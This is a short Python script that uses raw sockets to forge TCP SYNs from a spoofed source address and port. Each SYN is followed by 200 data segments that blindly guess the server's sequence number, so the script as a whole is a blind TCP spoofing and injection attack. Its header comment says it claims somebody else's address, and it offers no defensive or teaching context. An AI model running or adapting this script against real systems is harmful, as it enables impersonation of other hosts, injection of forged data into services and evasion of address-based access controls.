# Sends SYNs from somebody else's address and port, each followed by data segments with guesses of the server's sequence
# number. Arguments: the source address and port to claim, the destination address and port.
import random, socket, struct, sys

source, sport, target, port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
SYN, PSH_ACK = 0x02, 0x18


def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def send(sequence, acknowledged, flags, data=b''):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack('!HHIIBBHHH', sport, port, sequence, acknowledged, 5 << 4, flags, 65535, 0, 0)
    check = checksum(ends + struct.pack('!BBH', 0, 6, len(tcp) + len(data)) + tcp + data)
    tcp = tcp[:16] + struct.pack('!H', check) + tcp[18:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 40 + len(data), 1, 0, 64, 6, 0) + ends
    raw.sendto(ip + tcp + data, (target, 0))


sent = 0
for attempt in range(20):
    first = random.randrange(1 << 32)
    send(first, 0, SYN)
    for guess in range(200):
        send((first + 1) % (1 << 32), random.randrange(1 << 32), PSH_ACK, b'forged')
        sent += 1
print(sent)
